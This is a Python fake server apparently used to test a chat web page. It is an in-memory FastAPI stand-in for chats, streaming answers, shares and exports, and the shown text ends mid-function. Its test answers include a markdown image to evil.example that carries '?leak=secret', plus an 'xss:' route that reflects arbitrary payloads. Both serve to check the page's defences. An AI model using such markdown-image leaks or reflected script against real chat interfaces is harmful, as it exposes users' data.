"""A small server that follows docs/product.md with everything in memory: for the page's tests, and to develop it.

`python tests/web/fake_server.py --port 8765` serves the built page with a few chats. Answers are streamed word by word;
what a question contains chooses the answer: `slow`, `long`, `code`, `math`, `table`, `fail`, `held`, `cut`, `think`,
`remote image`, `xss:<payload>`; anything else is echoed in a sentence.
"""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import time
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import FileResponse, JSONResponse, Response, StreamingResponse

BUILT = Path(__file__).resolve().parents[2] / "src" / "ziggurat" / "service" / "page"
POLICY = (
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; "
    "connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
CODE = 'Here it is:\n\n```python\ndef hello(name: str) -> str:\n    """Greets."""\n    return f"Hello, {name}!"\n```\n\nThat is all.'
MATH = "The roots are $x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$, and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6."
TABLE = "| fruit | price |\n|---|---:|\n| apple | 1.20 |\n| pear | 1.50 |\n\n- [x] done\n- [ ] to do\n\nA note.[^1]\n\n[^1]: Of the market."
THOUGHT = "The person greets me, so I greet back."


def stamp(offset_s: float = 0.0) -> str:
    now = time.time() + offset_s
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now)) + f".{int(now % 1 * 1e6):06d}Z"


class Ids:
    """`chat_…` and `msg_…`: 32 hexadecimal digits that sort by time."""

    def __init__(self) -> None:
        self.n = 0

    def new(self, kind: str) -> str:
        self.n += 1
        return f"{kind}_{int(time.time() * 1000):012x}7000{self.n:016x}"


class Refused(Exception):
    def __init__(self, status: int, code: str, message: str) -> None:
        self.status, self.code, self.message = status, code, message


def missing() -> Refused:
    return Refused(404, "not_found", "There is nothing of this name that you may see.")


@dataclass
class Generation:
    id: str
    chat: str
    message: dict[str, Any]
    answer: str
    reasoning: str = ""
    events: list[dict[str, Any]] = field(default_factory=list)
    changed: asyncio.Event = field(default_factory=asyncio.Event)
    over: bool = False
    task: asyncio.Task[None] | None = None

    def push(self, event: dict[str, Any]) -> None:
        self.events.append(event)
        self.over = self.over or event["type"] in ("done", "error")
        self.changed.set()
        self.changed = asyncio.Event()


class House:
    """All state: people, chats, messages, generations, and a log of what was asked for."""

    def __init__(self, *, mode: str = "local", delay_s: float = 0.01) -> None:
        self.ids = Ids()
        self.mode, self.delay_s = mode, delay_s
        self.needs_setup = mode == "setup"
        if mode == "setup":
            self.mode = "accounts"
        self.logged_in = mode == "local"
        self.registration = "open"
        self.preferences: dict[str, Any] = {}
        self.consents: dict[str, bool] = {}
        self.chats: dict[str, dict[str, Any]] = {}
        self.messages: dict[str, dict[str, Any]] = {}
        self.generations: dict[str, Generation] = {}
        self.folders: dict[str, dict[str, Any]] = {}
        self.personas: dict[str, dict[str, Any]] = {}
        self.shares: dict[str, dict[str, Any]] = {}
        self.keys: dict[str, dict[str, Any]] = {}
        self.hidden: set[str] = set()  # answers of a pair, until one is picked
        self.picks: list[dict[str, Any]] = []
        self.rewrites: list[dict[str, Any]] = []
        self.reports: list[dict[str, Any]] = []
        self.requests: list[str] = []
        self.temporary: list[dict[str, Any]] = []
        self.refuse_turns = 0
        self.cuts = 0
        self.role = "owner"
        self.answers: dict[str, str] = {}  # a word of the question -> the answer
        self.letters = False  # write letter by letter
        self.climbs: list[dict[str, Any]] = []
        self.runs: dict[str, dict[str, Any]] = {}
        self.admin = Admin(self)

    def cut_streams(self) -> None:
        """Break every event stream once, as a lost network does."""
        self.cuts += 1

    # -- chats ---------------------------------------------------------------------------------------------

    def chat(self, chat_id: str) -> dict[str, Any]:
        if chat_id not in self.chats:
            raise missing()
        return self.chats[chat_id]

    def message(self, chat_id: str, message_id: str) -> dict[str, Any]:
        found = self.messages.get(message_id)
        if found is None or found["chat_id"] != chat_id:
            raise missing()
        return found

    def new_chat(self, **given: Any) -> dict[str, Any]:
        now = stamp()
        chat = {
            "id": self.ids.new("chat"), "title": "", "model": MODELS[0]["name"], "folder_id": None, "persona_id": None,
            "system_prompt": None, "settings": {}, "data_use": False, "pinned": False, "archived": False,
            "deleted_at": None, "active_leaf_id": None, "created_at": now, "updated_at": now,
        }  # fmt: skip
        chat |= {name: value for name, value in given.items() if name in chat and value is not None}
        self.chats[chat["id"]] = chat
        return chat

    def new_message(
        self, chat_id: str, role: str, content: str, parent: str | None, **given: Any
    ) -> dict[str, Any]:
        message = {
            "id": self.ids.new("msg"), "chat_id": chat_id, "parent_id": parent, "role": role, "content": content,
            "reasoning": None, "tool_calls": None, "model": None, "state": "complete", "finish_reason": None, "usage": None,
            "settings": None, "seed": None, "judgement": None, "guard": None,
            "lang": "zh" if any("\u4e00" <= c <= "\u9fff" for c in content) else "en", "edited": False,
            "created_at": stamp(),
        } | given  # fmt: skip
        self.messages[message["id"]] = message
        self.chats[chat_id]["active_leaf_id"] = message["id"]
        self.chats[chat_id]["updated_at"] = stamp()
        return message

    def children(self, chat_id: str, parent: str | None) -> list[dict[str, Any]]:
        return [m for m in self.messages.values() if m["chat_id"] == chat_id and m["parent_id"] == parent]

    def shown(self, message: dict[str, Any]) -> dict[str, Any]:
        siblings = [m["id"] for m in self.children(message["chat_id"], message["parent_id"])]
        hidden = {"model": None} if message["id"] in self.hidden else {}
        return message | hidden | {"siblings": siblings, "position": len(self.path(message["id"])) - 1}

    def path(self, leaf: str | None) -> list[dict[str, Any]]:
        path: list[dict[str, Any]] = []
        while leaf is not None:
            path.append(self.messages[leaf])
            leaf = self.messages[leaf]["parent_id"]
        return path[::-1]

    def newest_leaf(self, message_id: str) -> str:
        chat = self.messages[message_id]["chat_id"]
        while below := self.children(chat, message_id):
            message_id = below[-1]["id"]
        return message_id

    # -- generations ---------------------------------------------------------------------------------------

    def begin(self, chat_id: str, question: str, answer: dict[str, Any]) -> Generation:
        text, thought = answer_to(question)
        text = next((told for word, told in self.answers.items() if word in question), text)
        generation = Generation(self.ids.new("gen"), chat_id, answer, text, thought)
        answer["state"] = "running"
        self.generations[generation.id] = generation
        generation.task = asyncio.get_running_loop().create_task(self._write(generation, question))
        return generation

    async def _write(self, generation: Generation, question: str) -> None:
        message, pieces = (
            generation.message,
            list(generation.answer) if self.letters else cut(generation.answer),
        )
        delay = 0.12 if "slow" in question else self.delay_s
        began = time.monotonic()
        for piece in cut(generation.reasoning):
            generation.push({"type": "reasoning", "text": piece})
            message["reasoning"] = (message["reasoning"] or "") + piece
            await asyncio.sleep(delay)
        if "held" in question:
            generation.push({"type": "held"})
            await asyncio.sleep(0.5)
        for i, piece in enumerate(pieces):
            if generation.over:
                return
            if "fail" in question and i == 2:
                message["state"] = "failed"
                error = {
                    "message": "The model stopped.",
                    "type": "server_error",
                    "param": None,
                    "code": "model_failed",
                }
                generation.push({"type": "error", "error": error, "message": self.shown(message)})
                return
            message["content"] += piece
            generation.push({"type": "text", "text": piece})
            await asyncio.sleep(delay)
        took = max(time.monotonic() - began, 1e-6)
        message |= {
            "state": "complete",
            "finish_reason": "length" if "cut" in question and "continued" not in message["content"] else "stop",
            "seed": 7,
            "usage": {
                "prompt_tokens": 21, "completion_tokens": len(pieces), "tokens_per_s": round(len(pieces) / took, 1),
                "ttft_ms": 42.0, "context": 2048, "dropped_messages": 0,
            },
        }  # fmt: skip
        chat = self.chats.get(generation.chat)
        if chat is None:
            return
        if not chat["title"]:
            chat["title"] = " ".join(question.split()[:6])[:40] or "Chat"
        chat["updated_at"] = stamp()
        generation.push({
            "type": "done", "message": self.shown(message),
            "chat": {"title": chat["title"], "active_leaf_id": chat["active_leaf_id"]},
        })  # fmt: skip

    def stop(self, generation: Generation, seen: int) -> dict[str, Any]:
        if not generation.over:
            generation.message |= {
                "content": generation.message["content"][:seen], "state": "stopped", "finish_reason": "stop",
            }  # fmt: skip
            chat = self.chats[generation.chat]
            chat["title"] = chat["title"] or "Stopped"
            generation.push({
                "type": "done", "message": self.shown(generation.message),
                "chat": {"title": chat["title"], "active_leaf_id": chat["active_leaf_id"]},
            })  # fmt: skip
        return self.shown(generation.message)

    async def events(self, generation: Generation, after: int | None) -> AsyncIterator[str]:
        at, cuts = 0, self.cuts
        if after is not None:
            at = after
        elif generation.events:
            at = len(generation.events)
            for kind in ("reasoning", "text"):
                text = "".join(e["text"] for e in generation.events if e["type"] == kind)
                if text:
                    yield frame(at, {"type": kind, "text": text})
            if generation.events[-1]["type"] in ("done", "error", "held"):
                yield frame(at, generation.events[-1])
        while True:
            changed = generation.changed
            while at < len(generation.events):
                if self.cuts != cuts:
                    raise ConnectionResetError
                at += 1
                yield frame(at, generation.events[at - 1])
            if generation.over:
                return
            try:
                await asyncio.wait_for(changed.wait(), 2.0)
            except TimeoutError:
                yield ": waiting\n\n"


def frame(number: int, event: dict[str, Any]) -> str:
    return f"id: {number}\ndata: {json.dumps(event, ensure_ascii=False)}\n\n"


def cut(text: str) -> list[str]:
    """Pieces as a model's tokens are: a word with its space; one Chinese character."""
    pieces: list[str] = []
    for letter in text:
        if (
            pieces
            and not pieces[-1].endswith((" ", "\n"))
            and letter < "\u3000"
            and pieces[-1][-1] < "\u3000"
        ):
            pieces[-1] += letter
        else:
            pieces.append(letter)
    return pieces


def answer_to(question: str) -> tuple[str, str]:
    if "xss:" in question:
        return question.split("xss:", 1)[1], ""
    for word, text in (("code", CODE), ("math", MATH), ("table", TABLE)):
        if word in question:
            return text, ""
    if "remote image" in question:
        return (
            "Look: ![a cat](https://evil.example/cat.png?leak=secret) and [here](https://other.example/page).",
            "",
        )
    if "think" in question:
        return "Hello to you too.", THOUGHT
    if "long" in question:
        return " ".join(f"Sentence {i} of a long answer." for i in range(1, 101)), ""
    if any("\u4e00" <= c <= "\u9fff" for c in question):
        return f"你问的是“{question}”。这是一个回答。", ""
    return f"You said “{question}”. This is an answer.", ""


MODELS: list[dict[str, Any]] = [
    {"name": "smollm2", "stage": None, "parameters": 134_515_008, "context": 2048, "is_base": False,
     "description": "SmolLM2-135M-Instruct", "licence": "Apache-2.0", "run": None, "upstream": None, "quality": None},
    {"name": "town/ppo-2", "stage": "ppo", "parameters": 3_600_000, "context": 256, "is_base": False,
     "description": "", "licence": None, "run": "town/ppo-2", "upstream": None, "quality": None},
    {"name": "town/sft-1", "stage": "sft", "parameters": 3_600_000, "context": 256, "is_base": False,
     "description": "", "licence": None, "run": "town/sft-1", "upstream": None, "quality": None},
    {"name": "town/pretrain-1", "stage": "pretrain", "parameters": 3_600_000, "context": 256, "is_base": True,
     "description": "", "licence": None, "run": "town/pretrain-1", "upstream": None, "quality": None},
]  # fmt: skip
EXAMPLES = [
    {"text": "Where does Mira live?", "kind": "known", "lang": "en"},
    {"text": "What is Mira's favourite colour?", "kind": "unknown", "lang": "en"},
    {"text": "米拉住在哪里？", "kind": "known", "lang": "zh"},
]
PERSON = {"id": "person_1", "email": "ada@example.org", "name": "Ada", "role": "owner", "locale": None,
          "status": "active", "created_at": "2026-11-01T09:00:00Z"}  # fmt: skip


class Admin:
    """What the administration's pages show."""

    def __init__(self, house: House) -> None:
        self.house = house
        self.people = {
            "person_1": PERSON | {"budget": None},
            "person_2": PERSON
            | {"id": "person_2", "email": "ben@example.org", "name": "Ben", "role": "member", "budget": None},
        }
        self.invitations: dict[str, dict[str, Any]] = {}
        self.settings: dict[str, Any] = {
            "registration": "open",
            "retention_days": None,
            "limits": {"max_tokens": 512},
            "budgets": {},
        }
        self.rules: dict[str, dict[str, Any]] = {}
        self.held: dict[str, dict[str, Any]] = {}
        self.broken: str | None = None
        self.audit = [
            {
                "id": 1,
                "at": stamp(-3600),
                "who": "Ada",
                "action": "settings.change",
                "what": "registration",
                "detail": {},
            }
        ]


def create_fake(house: House | Door) -> FastAPI:
    app = FastAPI(openapi_url=None)
    app.state.house = house

    @app.exception_handler(Refused)
    async def refused(_: Request, why: Refused) -> JSONResponse:
        body = {
            "error": {
                "message": why.message,
                "type": "invalid_request_error",
                "param": None,
                "code": why.code,
            }
        }
        return JSONResponse(body, why.status)

    @app.middleware("http")
    async def checked(request: Request, call: Any) -> Response:
        house.requests.append(f"{request.method} {request.url.path}")
        changing = request.method in ("POST", "PUT", "PATCH", "DELETE") and request.url.path.startswith(
            "/api/"
        )
        if changing and not request.headers.get("content-type", "").startswith(
            ("application/json", "application/zip")
        ):
            return JSONResponse({"error": {"message": "JSON is expected.", "code": "media_type"}}, 415)
        doors = ("/api/login", "/api/register", "/api/setup", "/api/me", "/api/shared/")
        if (
            request.url.path.startswith("/api/")
            and not house.logged_in
            and not request.url.path.startswith(doors)
        ):
            return JSONResponse({"error": {"message": "Log in first.", "code": "unauthorized"}}, 401)
        if (
            changing
            and house.mode == "accounts"
            and house.logged_in
            and request.headers.get("x-csrf-token") != "token-1"
        ):
            return JSONResponse({"error": {"message": "The token is wrong.", "code": "csrf"}}, 403)
        response: Response = await call(request)
        response.headers["content-security-policy"] = POLICY
        response.headers["x-content-type-options"] = "nosniff"
        return response

    for add in (
        _me_routes,
        _chat_routes,
        _turn_routes,
        _judging_routes,
        _other_routes,
        _run_routes,
        _admin_routes,
        _page_routes,
    ):
        add(app, house)
    return app


def page_of(items: list[dict[str, Any]], cursor: str | None, limit: int) -> dict[str, Any]:
    start = int(cursor or 0)
    more = start + limit < len(items)
    return {"data": items[start : start + limit], "next": str(start + limit) if more else None}


def _me_routes(app: FastAPI, house: Any) -> None:
    @app.get("/api/me")
    async def me() -> dict[str, Any]:
        return {
            "person": PERSON | {"role": house.role} if house.logged_in else None, "mode": house.mode, "workspace": {"id": "w_1", "name": "Home"},
            "needs_setup": house.needs_setup, "registration": house.registration,
            "csrf": "token-1" if house.logged_in and house.mode == "accounts" else None,
            "preferences": house.preferences, "consents": house.consents, "version": "0.0.fake",
        }  # fmt: skip

    @app.patch("/api/me")
    async def change(request: Request) -> dict[str, Any]:
        house.preferences |= (await request.json()).get("preferences", {})
        return await me()

    @app.delete("/api/me")
    async def leave() -> Response:
        house.chats.clear()
        house.messages.clear()
        house.logged_in = house.mode == "local"
        return Response(status_code=204)

    @app.put("/api/me/consents/{purpose}")
    async def consent(purpose: str, request: Request) -> dict[str, Any]:
        house.consents[purpose] = bool((await request.json())["given"])
        return {"purpose": purpose, "given": house.consents[purpose]}

    @app.post("/api/login")
    async def login(request: Request) -> dict[str, Any]:
        if (await request.json()).get("password") != "correct horse battery":
            raise Refused(401, "wrong_login", "The email or the password is wrong.")
        house.logged_in = True
        return await me()

    @app.post("/api/register")
    async def register() -> dict[str, Any]:
        house.logged_in = True
        return await me()

    @app.post("/api/setup")
    async def setup(request: Request) -> dict[str, Any]:
        if (await request.json())["token"] != "once":
            raise Refused(403, "wrong_token", "The token is wrong.")
        house.needs_setup, house.logged_in = False, True
        return await me()

    @app.post("/api/logout")
    async def logout() -> Response:
        house.logged_in = False
        return Response(status_code=204)

    @app.post("/api/me/password")
    async def password() -> Response:
        return Response(status_code=204)

    @app.get("/api/me/sessions")
    async def sessions() -> dict[str, Any]:
        one = {
            "id": "session_1",
            "created_at": stamp(),
            "last_seen_at": stamp(),
            "user_agent": "Chromium",
            "current": True,
        }
        return {"data": [one], "next": None}

    @app.get("/api/me/keys")
    async def keys() -> dict[str, Any]:
        return {"data": list(house.keys.values()), "next": None}

    @app.post("/api/me/keys")
    async def new_key(request: Request) -> dict[str, Any]:
        body = await request.json()
        key = {"id": house.ids.new("key"), "name": body["name"], "scopes": body["scopes"], "prefix": "zk-abcd",
               "created_at": stamp(), "expires_at": body.get("expires_at")}  # fmt: skip
        house.keys[key["id"]] = key
        return key | {"secret": "zk-abcdefghijklmnopqrstuvwxyz"}

    @app.delete("/api/me/keys/{key_id}")
    async def drop_key(key_id: str) -> Response:
        house.keys.pop(key_id, None)
        return Response(status_code=204)


def _chat_routes(app: FastAPI, house: Any) -> None:
    @app.get("/api/models")
    async def models() -> dict[str, Any]:
        return {
            "models": MODELS, "examples": EXAMPLES, "defaults": {"temperature": 0.7, "max_tokens": 256},
            "limits": {"max_tokens": 512, "max_messages": 100, "max_message_chars": 20_000},
        }  # fmt: skip

    @app.get("/api/chats")
    async def chats(
        folder: str | None = None,
        archived: bool = False,
        trash: bool = False,
        cursor: str | None = None,
        limit: int = 50,
    ) -> dict[str, Any]:
        found = [
            chat for chat in house.chats.values()
            if bool(chat["deleted_at"]) == trash and (trash or chat["archived"] == archived)
            and (folder is None or chat["folder_id"] == folder)
        ]  # fmt: skip
        found.sort(key=lambda chat: chat["updated_at"], reverse=True)
        found.sort(key=lambda chat: not chat["pinned"])
        return page_of(found, cursor, limit)

    @app.post("/api/chats")
    async def new_chat(request: Request) -> dict[str, Any]:
        return house.new_chat(**await request.json())

    @app.get("/api/chats/{chat_id}")
    async def open_chat(chat_id: str) -> dict[str, Any]:
        chat = house.chat(chat_id)
        path = house.path(chat["active_leaf_id"])
        running = [g.id for g in house.generations.values() if g.chat == chat_id and not g.over]
        return {
            "chat": chat, "messages": [house.shown(m) for m in path[-50:]], "has_earlier": len(path) > 50,
            "generation_id": running[-1] if running else None,
        }  # fmt: skip

    @app.get("/api/chats/{chat_id}/messages")
    async def earlier(chat_id: str, before: str, limit: int = 50) -> dict[str, Any]:
        path = house.path(house.message(chat_id, before)["id"])[:-1]
        return {"messages": [house.shown(m) for m in path[-limit:]], "has_earlier": len(path) > limit}

    @app.get("/api/chats/{chat_id}/tree")
    async def tree(chat_id: str) -> dict[str, Any]:
        chat = house.chat(chat_id)
        lines = [
            {"id": m["id"], "parent_id": m["parent_id"], "role": m["role"], "preview": m["content"][:80], "state": m["state"]}
            for m in house.messages.values() if m["chat_id"] == chat_id
        ]  # fmt: skip
        return {"messages": lines, "active_leaf_id": chat["active_leaf_id"]}

    @app.patch("/api/chats/{chat_id}")
    async def change(chat_id: str, request: Request) -> dict[str, Any]:
        chat, body = house.chat(chat_id), await request.json()
        if body.get("active_leaf_id"):
            body["active_leaf_id"] = house.newest_leaf(house.message(chat_id, body["active_leaf_id"])["id"])
        chat |= {name: value for name, value in body.items() if name in chat}
        return chat

    @app.delete("/api/chats/{chat_id}")
    async def delete(chat_id: str, forever: bool = False) -> Response:
        chat = house.chat(chat_id)
        if forever:
            del house.chats[chat_id]
            house.messages = {i: m for i, m in house.messages.items() if m["chat_id"] != chat_id}
        else:
            chat["deleted_at"] = stamp()
        return Response(status_code=204)

    @app.post("/api/chats/{chat_id}/restore")
    async def restore(chat_id: str) -> dict[str, Any]:
        chat = house.chat(chat_id)
        chat["deleted_at"] = None
        return chat

    @app.post("/api/chats/{chat_id}/fork")
    async def fork(chat_id: str, request: Request) -> dict[str, Any]:
        old = house.chat(chat_id)
        new = house.new_chat(title=old["title"], model=old["model"])
        parent = None
        for m in house.path((await request.json())["message_id"]):
            parent = house.new_message(new["id"], m["role"], m["content"], parent, model=m["model"])["id"]
        return new

    @app.get("/api/search")
    async def search(q: str, limit: int = 20) -> dict[str, Any]:
        hits = []
        for m in house.messages.values():
            at = m["content"].lower().find(q.lower())
            chat = house.chats[m["chat_id"]]
            if at < 0 or chat["deleted_at"]:
                continue
            start = max(0, at - 40)
            hits.append({
                "chat_id": chat["id"], "title": chat["title"], "message_id": m["id"],
                "snippet": m["content"][start : at + 80], "marks": [[at - start, at - start + len(q)]],
                "created_at": m["created_at"],
            })  # fmt: skip
        return {"data": hits[::-1][:limit]}


def _turn_routes(app: FastAPI, house: Any) -> None:
    def answer_under(chat_id: str, parent: str, model: str | None) -> dict[str, Any]:
        return house.new_message(
            chat_id, "assistant", "", parent, model=model or house.chat(chat_id)["model"]
        )

    def begun(chat_id: str, question: dict[str, Any], model: str | None, **more: Any) -> JSONResponse:
        answer = answer_under(chat_id, question["id"], model)
        generation = house.begin(chat_id, question["content"], answer)
        return JSONResponse({"answer": house.shown(answer), "generation_id": generation.id, **more}, 202)

    @app.post("/api/chats/{chat_id}/turns")
    async def turn(chat_id: str, request: Request) -> JSONResponse:
        body = await request.json()
        house.chat(chat_id)
        if house.refuse_turns > 0:
            house.refuse_turns -= 1
            raise Refused(503, "busy", "Too many answers are being written just now.")
        user = house.new_message(chat_id, "user", body["text"], body.get("parent_id"))
        return begun(chat_id, user, body.get("model"), user=house.shown(user))

    @app.post("/api/chats/{chat_id}/messages/{mid}/regenerate")
    async def regenerate(chat_id: str, mid: str, request: Request) -> JSONResponse:
        body = await request.json()
        question = house.message(chat_id, house.message(chat_id, mid)["parent_id"])
        return begun(chat_id, question, body.get("model"))

    @app.post("/api/chats/{chat_id}/messages/{mid}/edit")
    async def edit(chat_id: str, mid: str, request: Request) -> JSONResponse:
        body, old = await request.json(), house.message(chat_id, mid)
        new = house.new_message(
            chat_id, old["role"], body["text"], old["parent_id"], edited=True, model=old["model"]
        )
        if old["role"] == "user" and body["run"]:
            return begun(chat_id, new, None, user=house.shown(new))
        return JSONResponse({"message": house.shown(new)})

    @app.post("/api/chats/{chat_id}/messages/{mid}/continue")
    async def go_on(chat_id: str, mid: str) -> JSONResponse:
        answer = house.message(chat_id, mid)
        answer["content"] += " "
        generation = house.begin(chat_id, "on", answer)
        generation.answer = "And this is continued."
        generation.events.append({"type": "text", "text": answer["content"]})
        return JSONResponse({"answer": house.shown(answer), "generation_id": generation.id}, 202)

    @app.post("/api/chats/{chat_id}/pair")
    async def pair(chat_id: str, request: Request) -> JSONResponse:
        body = await request.json()
        user = house.new_message(chat_id, "user", body["text"], body.get("parent_id"))
        answers = [
            answer_under(chat_id, user["id"], name)
            for name in body.get("models") or ["smollm2", "town/ppo-2"]
        ]
        for answer in answers:
            answer["pair_id"] = f"pair_{answers[0]['id']}"
        generations = [house.begin(chat_id, user["content"], answer) for answer in answers]
        house.hidden |= {answer["id"] for answer in answers}
        shown = [house.shown(answer) for answer in answers]
        return JSONResponse(
            {"user": house.shown(user), "answers": shown, "generation_ids": [g.id for g in generations]}, 202
        )

    @app.get("/api/chats/{chat_id}/generations/{gid}/events")
    async def events(chat_id: str, gid: str, request: Request, after: int | None = None) -> StreamingResponse:
        generation = house.generations.get(gid)
        if generation is None or generation.chat != chat_id:
            raise missing()
        last = request.headers.get("last-event-id")
        return StreamingResponse(
            house.events(generation, int(last) if last else after), media_type="text/event-stream"
        )

    @app.post("/api/chats/{chat_id}/generations/{gid}/stop")
    async def stop(chat_id: str, gid: str, request: Request) -> dict[str, Any]:
        house.chat(chat_id)
        return {"message": house.stop(house.generations[gid], (await request.json())["seen_chars"])}

    @app.post("/api/chat")
    async def temporary(request: Request) -> StreamingResponse:
        body = await request.json()
        house.temporary.append(body)
        text, _ = answer_to(body["messages"][-1]["content"])

        async def written() -> AsyncIterator[str]:
            pieces = cut(text)
            for piece in pieces:
                yield f"data: {json.dumps({'text': piece})}\n\n"
                await asyncio.sleep(house.delay_s)
            done = {"finish_reason": "stop", "usage": {"prompt_tokens": 9, "completion_tokens": len(pieces)},
                    "seed": 3, "dropped_messages": 0, "tokens_per_s": 99.0}  # fmt: skip
            yield f"data: {json.dumps({'done': done})}\n\n"

        return StreamingResponse(written(), media_type="text/event-stream")


def _judging_routes(app: FastAPI, house: Any) -> None:
    @app.put("/api/chats/{chat_id}/messages/{mid}/judgement")
    async def judge(chat_id: str, mid: str, request: Request) -> dict[str, Any]:
        message, body = house.message(chat_id, mid), await request.json()
        value = {"value": body["value"], "reasons": body.get("reasons", []), "comment": body.get("comment")}
        message["judgement"] = value if body["value"] else None
        return {"judgement": message["judgement"]}

    @app.post("/api/chats/{chat_id}/messages/{mid}/rewrite")
    async def rewrite(chat_id: str, mid: str, request: Request) -> dict[str, Any]:
        house.rewrites.append({"message": mid, **await request.json()})
        return {"id": house.ids.new("judgement")}

    @app.post("/api/chats/{chat_id}/messages/{mid}/report")
    async def report(chat_id: str, mid: str, request: Request) -> dict[str, Any]:
        house.reports.append({"message": mid, **await request.json()})
        return {"id": house.ids.new("report")}

    @app.post("/api/chats/{chat_id}/picks")
    async def pick(chat_id: str, request: Request) -> dict[str, Any]:
        body = await request.json()
        house.picks.append(body)
        for one in body["shown"]:
            house.hidden.discard(one)
        if body["winner"] in body["shown"]:
            house.chat(chat_id)["active_leaf_id"] = body["winner"]
        return {"messages": [house.shown(house.message(chat_id, m)) for m in body["shown"]]}

    @app.get("/api/chats/{chat_id}/messages/{mid}/why")
    async def why(chat_id: str, mid: str) -> dict[str, Any]:
        message = house.message(chat_id, mid)
        tokens = []
        for i, piece in enumerate(cut(message["content"])[:120]):
            logprob = -0.05 - (i % 5) * 0.8
            tops = [(piece, logprob), (" or", logprob - 1), (" perhaps", logprob - 2)]
            tokens.append(
                {"text": piece, "logprob": logprob, "top": [{"text": t, "logprob": p} for t, p in tops]}
            )
        prompt = "".join(f"<|im_start|>{m['role']}\n{m['content']}<|im_end|>\n" for m in house.path(mid)[:-1])
        return {
            "prompt": prompt,
            "tokens": tokens,
            "curl": "curl http://127.0.0.1:8000/v1/chat/completions -d '{}'",
            "seed": 7,
        }


def _other_routes(app: FastAPI, house: Any) -> None:
    @app.get("/api/folders")
    async def folders() -> dict[str, Any]:
        return {"data": list(house.folders.values()), "next": None}

    @app.post("/api/folders")
    async def new_folder(request: Request) -> dict[str, Any]:
        body = await request.json()
        folder = {
            "id": house.ids.new("folder"),
            "parent_id": body.get("parent_id"),
            "name": body["name"],
            "position": len(house.folders),
        }
        house.folders[folder["id"]] = folder
        return folder

    @app.patch("/api/folders/{fid}")
    async def change_folder(fid: str, request: Request) -> dict[str, Any]:
        house.folders[fid] |= await request.json()
        return house.folders[fid]

    @app.delete("/api/folders/{fid}")
    async def drop_folder(fid: str) -> Response:
        del house.folders[fid]
        for chat in house.chats.values():
            if chat["folder_id"] == fid:
                chat["folder_id"] = None
        return Response(status_code=204)

    @app.get("/api/personas")
    async def personas() -> dict[str, Any]:
        return {"data": list(house.personas.values()), "next": None}

    @app.post("/api/personas")
    async def new_persona(request: Request) -> dict[str, Any]:
        persona = await request.json() | {"id": house.ids.new("persona"), "version": 1, "created_at": stamp()}
        house.personas[persona["id"]] = persona
        return persona

    @app.patch("/api/personas/{pid}")
    async def change_persona(pid: str, request: Request) -> dict[str, Any]:
        old = house.personas[pid]
        old |= await request.json() | {"version": old["version"] + 1}
        return old

    @app.delete("/api/personas/{pid}")
    async def drop_persona(pid: str) -> Response:
        del house.personas[pid]
        return Response(status_code=204)

    @app.post("/api/chats/{chat_id}/shares")
    async def share(chat_id: str, request: Request) -> dict[str, Any]:
        chat, token = house.chat(chat_id), house.ids.new("t")
        made = {
            "id": house.ids.new("share"), "chat_id": chat_id, "title": chat["title"], "url": f"/shared/{token}",
            "created_at": stamp(), "expires_at": (await request.json()).get("expires_at"), "revoked_at": None, "views": 0,
        }  # fmt: skip
        messages = [house.shown(m) for m in house.path(chat["active_leaf_id"])]
        house.shares[token] = made | {"messages": messages}
        return made

    @app.get("/api/shares")
    async def shares() -> dict[str, Any]:
        return {
            "data": [
                {k: v for k, v in s.items() if k != "messages"} | {"url": None} for s in house.shares.values()
            ],
            "next": None,
        }

    @app.delete("/api/shares/{sid}")
    async def revoke(sid: str) -> Response:
        for one in house.shares.values():
            if one["id"] == sid:
                one["revoked_at"] = stamp()
        return Response(status_code=204)

    @app.get("/api/shared/{token}")
    async def shared(token: str) -> dict[str, Any]:
        found = house.shares.get(token)
        if found is None or found["revoked_at"]:
            raise missing()
        found["views"] += 1
        return {"title": found["title"], "messages": found["messages"], "created_at": found["created_at"]}

    @app.post("/api/shared/{token}/continue")
    async def continue_shared(token: str) -> dict[str, Any]:
        found = house.shares[token]
        new, parent = house.new_chat(title=found["title"]), None
        for m in found["messages"]:
            parent = house.new_message(new["id"], m["role"], m["content"], parent, model=m["model"])["id"]
        return new

    @app.get("/api/chats/{chat_id}/export")
    async def export(chat_id: str, format: str) -> Response:
        messages = house.path(house.chat(chat_id)["active_leaf_id"])
        if format == "json":
            kept = [
                m | {"parent": m["parent_id"], "ai_generated": m["role"] == "assistant"} for m in messages
            ]
            return JSONResponse(
                {"kind": "ziggurat.chat", "title": house.chat(chat_id)["title"], "messages": kept}
            )
        return Response(
            "\n\n".join(f"{m['role']}: {m['content']}" for m in messages), media_type="text/plain"
        )

    @app.get("/api/export")
    @app.get("/api/me/export")
    async def export_all() -> Response:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as archive:
            archive.writestr("chats.json", json.dumps(list(house.chats.values())))
        return Response(held.getvalue(), media_type="application/zip")

    @app.post("/api/import")
    async def bring(request: Request) -> dict[str, Any]:
        try:
            body = json.loads(await request.body())
            chat = house.new_chat(title=body["title"])
            parent = None
            for m in body["messages"]:
                parent = house.new_message(chat["id"], m["role"], m["content"], parent, model=m.get("model"))[
                    "id"
                ]
        except (ValueError, KeyError, TypeError) as error:
            raise Refused(400, "bad_import", "The file holds no chats that are known here.") from error
        return {"chats": 1, "messages": len(body["messages"]), "skipped": []}


def _run_routes(app: FastAPI, house: Any) -> None:
    @app.get("/api/runs")
    async def runs() -> dict[str, Any]:
        return {"climbs": house.climbs}

    @app.get("/api/runs/events")
    async def changes() -> StreamingResponse:
        async def sent() -> AsyncIterator[str]:
            while True:
                await asyncio.sleep(1.0)
                yield 'data: {"type": "changed", "run": "town/sft"}\n\n'

        return StreamingResponse(sent(), media_type="text/event-stream")

    @app.post("/api/runs/{ladder}/resume")
    async def resume(ladder: str) -> JSONResponse:
        for climb in house.climbs:
            if climb["name"] == ladder:
                climb["state"] = "running"
        return JSONResponse({"resumed": ladder}, 202)

    @app.get("/api/runs/{ladder}/{run}")
    async def one(ladder: str, run: str) -> dict[str, Any]:
